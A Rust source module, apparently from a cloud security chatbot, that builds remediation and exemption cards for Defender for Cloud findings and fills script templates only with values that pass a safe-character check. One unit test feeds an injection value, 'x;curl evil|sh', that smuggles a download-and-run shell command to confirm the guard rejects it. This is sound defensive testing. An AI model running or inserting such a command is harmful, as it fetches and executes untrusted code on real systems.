//! remediate: concrete steps and scripts for the affected resource, filled in with its real
//! names; for vulnerability findings, the packages to upgrade; on request, how to exempt it.

use std::sync::Arc;

use secbot_chat::{Action, ActionStyle, Card, CodeBlock, Fact, Intent, Section, Subject};
use time::Duration;

use super::present::{finding_item, finding_subject, subscription_name};
use super::{Answer, Request, SkillError, query};
use crate::posture::{Finding, Recommendation, Resource, Script};

pub(crate) async fn run(req: &Request<'_>) -> Result<Answer, SkillError> {
    let findings = affected(req).await?;
    let Some(primary) = findings.first() else {
        return Ok(Answer::card(nothing_to_fix(req).await?));
    };
    if req.parse.exemption {
        return exemption(req, primary).await;
    }
    let rec = primary.recommendation.clone();
    let same_rec: Vec<&Finding> =
        findings.iter().filter(|f| f.recommendation.key == rec.key).take(3).collect();
    let subs = req.source.subscriptions().await?;
    let mut card = Card::titled(format!("Fix: {}", rec.name));
    card.severity = Some(primary.level());
    card.summary = Some(match same_rec.as_slice() {
        [one] => format!(
            "On {} ({}, {}). {} {}.",
            one.resource.name,
            one.resource.kind.label(),
            subscription_name(&subs, &one.resource.subscription),
            one.level().label(),
            if one.risk.is_some() { "risk" } else { "severity" }
        ),
        many => format!(
            "Scripts below are filled in for {}.",
            many.iter().map(|f| f.resource.name.as_str()).collect::<Vec<_>>().join(", ")
        ),
    });
    if let Some(effort) = rec.implementation_effort {
        card.facts.push(Fact::new("Effort", effort.to_string()));
    }
    if let Some(impact) = rec.user_impact {
        card.facts.push(Fact::new("User impact", impact.to_string()));
    }

    if crate::catalog::reports_cves(&rec.key) {
        let vulns = req.source.vulnerabilities(&primary.resource.id).await?;
        if !vulns.is_empty() {
            card.sections.push(Section {
                heading: format!("Vulnerabilities to patch on {}", primary.resource.name),
                lines: vulns
                    .iter()
                    .take(8)
                    .map(|v| match &v.fixed_version {
                        Some(fixed) => format!(
                            "{} ({}, CVSS {:.1}): upgrade {} to {fixed} or later",
                            v.cve,
                            v.severity.label(),
                            v.cvss,
                            v.package
                        ),
                        None => format!(
                            "{} ({}, CVSS {:.1}): no fixed version of {} yet; mitigate or replace it",
                            v.cve,
                            v.severity.label(),
                            v.cvss,
                            v.package
                        ),
                    })
                    .collect(),
                numbered: false,
            });
            if vulns.len() > 8 {
                card.notices.push(format!(
                    "{} more CVEs on {} are not listed here.",
                    vulns.len() - 8,
                    primary.resource.name
                ));
            }
        }
    }

    match &rec.remediation {
        Some(fix) => {
            card.sections.push(Section { heading: "Steps".to_owned(), lines: fix.steps.clone(), numbered: true });
            let scripts = pick_scripts(&fix.scripts, req.parse.tool);
            if let (Some(tool), false) = (req.parse.tool, scripts.iter().any(|s| Some(s.tool.as_str()) == req.parse.tool)) {
                card.notices.push(format!("secbot has no {} script for this recommendation; here are the ones it has.", tool_label(tool)));
            }
            for script in scripts {
                let mut filled = Vec::new();
                for f in &same_rec {
                    match fill(&script.code, &f.resource) {
                        Ok(code) => filled.push(if same_rec.len() > 1 { format!("{} {}\n{code}", comment(&script.language), f.resource.name) } else { code }),
                        Err(why) => card.notices.push(format!("No {} script for {}: {why}.", tool_label(&script.tool), f.resource.name)),
                    }
                }
                if !filled.is_empty() {
                    card.code.push(CodeBlock {
                        title: tool_label(&script.tool).to_owned(),
                        language: script.language.clone(),
                        code: filled.join("\n\n"),
                    });
                }
            }
        }
        None => card.sections.push(Section {
            heading: "Steps".to_owned(),
            lines: vec![
                "secbot has no scripted fix for this recommendation yet. Open it in Defender for Cloud (Recommendations, then search its name) for the vendor's remediation guidance.".to_owned(),
            ],
            numbered: false,
        }),
    }
    if let Some(effect) = &rec.fix_effect {
        card.sections.push(Section {
            heading: "Before you change it".to_owned(),
            lines: vec![effect.clone()],
            numbered: false,
        });
    }
    let text = req.prompt.text.to_lowercase();
    if text.contains(" pr") || text.contains("pull request") {
        card.notices.push(
            "secbot can't open pull requests; the infrastructure-as-code change above is ready to commit."
                .to_owned(),
        );
    }
    for other in findings.iter().filter(|f| f.recommendation.key != rec.key).take(3) {
        let mut item = finding_item(req, other, &subs, false).await?;
        item.actions =
            vec![Action::run("Remediate", req.response_id, Intent::Remediate, Some(finding_subject(other)))];
        card.items.push(item);
    }
    let subject = finding_subject(primary);
    card.actions = vec![
        Action::run("Explain", req.response_id, Intent::Explain, Some(subject.clone())),
        Action::run("Assign", req.response_id, Intent::Delegate, Some(subject.clone()))
            .styled(ActionStyle::Primary),
        Action::ask("Exempt instead", req.response_id, "exempt this"),
    ];
    Ok(Answer::card(card).about(Some(subject)))
}

/// The findings to fix, most risky first: the subject's, or those the slots describe.
async fn affected(req: &Request<'_>) -> Result<Vec<Finding>, SkillError> {
    let filter = match req.subject {
        Some(Subject::Finding { recommendation, resource }) => {
            return Ok(req.source.finding(recommendation, resource).await?.into_iter().collect());
        }
        Some(subject) if let Some(filter) = query::subject_filter(subject, req.scope) => filter,
        _ => {
            let query = query::build(req, &req.parse.slots).await?;
            if query.unknown.is_some() {
                return Ok(Vec::new());
            }
            query.filter
        }
    };
    Ok(req.source.findings(&filter, 0, 6).await?.items)
}

async fn nothing_to_fix(req: &Request<'_>) -> Result<Card, SkillError> {
    let mut card = Card::titled("Nothing to fix there");
    let rec = match &req.parse.recommendation_key {
        Some(key) => req.source.recommendation(key).await?,
        None => None,
    };
    card.summary = Some(match (&rec, &req.parse.slots.recommendation) {
        (Some(rec), _) => format!("No resource this channel can see fails \"{}\" right now.", rec.name),
        (None, Some(name)) => format!(
            "I couldn't find a recommendation named \"{name}\" in this tenant. Check the name in Defender for Cloud, or ask for a list of risks and pick one."
        ),
        (None, None) => "I couldn't find an open finding matching that. Ask for a list of risks, then ask how to fix one of them.".to_owned(),
    });
    if let Some(rec) = rec
        && let Some(fix) = &rec.remediation
    {
        card.sections.push(Section {
            heading: "How it is fixed".to_owned(),
            lines: fix.steps.clone(),
            numbered: true,
        });
    }
    card.actions = super::help::starters(req.response_id, 2);
    Ok(card)
}

async fn exemption(req: &Request<'_>, f: &Finding) -> Result<Answer, SkillError> {
    let rec: &Arc<Recommendation> = &f.recommendation;
    let res: &Arc<Resource> = &f.resource;
    let mut card = Card::titled(format!("Exempt {} from: {}", res.name, rec.name));
    card.summary = Some(
        "An exemption stops Defender for Cloud from counting this finding against your secure score. Use it when the risk is accepted or mitigated another way, and give it an end date."
            .to_owned(),
    );
    card.sections.push(Section {
        heading: "Steps".to_owned(),
        lines: vec![
            "In Defender for Cloud, open Recommendations and search for the recommendation's name.".to_owned(),
            format!("Select {} in the affected resources and choose Exempt.", res.name),
            "Pick Waiver (risk accepted) or Mitigated (handled by another control), set an expiry date and write down why.".to_owned(),
            "Creating exemptions needs the Owner, Security Admin or Resource Policy Contributor role on the scope.".to_owned(),
        ],
        numbered: true,
    });
    let expires = req.today + Duration::days(90);
    if res.cloud == secbot_chat::Cloud::Azure && safe(&res.id) && safe(&res.subscription) {
        card.code.push(CodeBlock {
            title: "Azure CLI".to_owned(),
            language: "bash".to_owned(),
            code: format!(
                "# Usage: bash exempt.sh <policyDefinitionReferenceId>\n# List the reference ids of the Defender for Cloud default initiative with:\n#   az policy set-definition show --ids \"$(az policy assignment show --name SecurityCenterBuiltIn --scope /subscriptions/{} --query policyDefinitionId -o tsv)\" --query \"policyDefinitions[].policyDefinitionReferenceId\" -o tsv\nREFERENCE_ID=\"${{1:?pass the policyDefinitionReferenceId of this recommendation}}\"\naz policy exemption create \\\n  --name \"secbot-waiver-{}\" \\\n  --policy-assignment \"/subscriptions/{}/providers/Microsoft.Authorization/policyAssignments/SecurityCenterBuiltIn\" \\\n  --policy-definition-reference-ids \"$REFERENCE_ID\" \\\n  --exemption-category Waiver \\\n  --expires-on \"{}T00:00:00Z\" \\\n  --scope \"{}\" \\\n  --description \"Risk accepted; review before expiry.\"",
                res.subscription,
                &rec.key[..8.min(rec.key.len())],
                res.subscription,
                expires,
                res.id
            ),
        });
    }
    card.notices.push("secbot doesn't create exemptions itself: they change what your security team sees, so a person should make them.".to_owned());
    let subject = finding_subject(f);
    card.actions = vec![
        Action::run("Fix it instead", req.response_id, Intent::Remediate, Some(subject.clone()))
            .styled(ActionStyle::Primary),
        Action::run("Assign", req.response_id, Intent::Delegate, Some(subject.clone())),
    ];
    Ok(Answer::card(card).about(Some(subject)))
}

/// The scripts to show: only the asked-for tool when there is one, else all.
fn pick_scripts<'a>(scripts: &'a [Script], tool: Option<&str>) -> Vec<&'a Script> {
    let wanted: Vec<&Script> = scripts.iter().filter(|s| Some(s.tool.as_str()) == tool).collect();
    if wanted.is_empty() { scripts.iter().collect() } else { wanted }
}

fn tool_label(tool: &str) -> &str {
    match tool {
        "azure_cli" => "Azure CLI",
        "powershell" => "PowerShell",
        "bicep" => "Bicep",
        "terraform" => "Terraform",
        "aws_cli" => "AWS CLI",
        "gcloud" => "gcloud",
        other => other,
    }
}

fn comment(language: &str) -> &'static str {
    match language {
        "bicep" | "hcl" | "terraform" => "//",
        _ => "#",
    }
}

/// True for values that can be pasted into a script unquoted: names and ids only.
fn safe(value: &str) -> bool {
    !value.is_empty() && value.chars().all(|c| c.is_ascii_alphanumeric() || "-_.:/()".contains(c))
}

/// Fills a script's template variables from the resource. Refuses values that are not plain
/// names (cloud data could carry shell syntax) and variables the resource has no value for.
fn fill(template: &str, resource: &Resource) -> Result<String, String> {
    let value = |var: &str| -> Option<String> {
        Some(match var {
            "name" => resource.name.clone(),
            "resource_group" => resource.resource_group.clone()?,
            "subscription" | "account" | "project" => resource.subscription.clone(),
            "location" | "region" => resource.region.clone(),
            "resource_id" => resource.id.clone(),
            _ => return None,
        })
    };
    let mut out = String::with_capacity(template.len());
    let mut rest = template;
    while let Some(start) = rest.find("{{") {
        out.push_str(&rest[..start]);
        let end = rest[start..].find("}}").map(|e| e + start).ok_or("the script template is malformed")?;
        let var = &rest[start + 2..end];
        let v = value(var).ok_or_else(|| format!("the resource has no {}", var.replace('_', " ")))?;
        if !safe(&v) {
            return Err(format!(
                "its {} contains characters that are not safe in a script",
                var.replace('_', " ")
            ));
        }
        out.push_str(&v);
        rest = &rest[end + 2..];
    }
    out.push_str(rest);
    Ok(out)
}

#[cfg(test)]
mod tests {
    use super::*;
    use secbot_chat::{Cloud, ResourceKind};

    fn resource(name: &str) -> Resource {
        Resource {
            id: format!(
                "/subscriptions/s1/resourceGroups/rg-web/providers/Microsoft.Storage/storageAccounts/{name}"
            ),
            name: name.to_owned(),
            kind: ResourceKind::StorageAccount,
            resource_type: "Microsoft.Storage/storageAccounts".into(),
            subscription: "s1".into(),
            resource_group: Some("rg-web".into()),
            region: "eastus".into(),
            cloud: Cloud::Azure,
            tags: vec![],
            internet_exposed: false,
            sensitive_data: None,
        }
    }

    #[test]
    fn scripts_are_filled_with_the_resource_values() {
        let code = fill(
            "az storage account update --name {{name}} --resource-group {{resource_group}}",
            &resource("stlogsprod"),
        )
        .unwrap();
        assert_eq!(code, "az storage account update --name stlogsprod --resource-group rg-web");
    }

    #[test]
    fn cloud_data_that_could_inject_shell_is_never_filled_in() {
        let err = fill("az storage account update --name {{name}}", &resource("x;curl evil|sh")).unwrap_err();
        assert!(err.contains("not safe"), "{err}");
        let mut aws = resource("bucket");
        aws.resource_group = None;
        assert!(fill("--resource-group {{resource_group}}", &aws).unwrap_err().contains("no resource group"));
    }
}
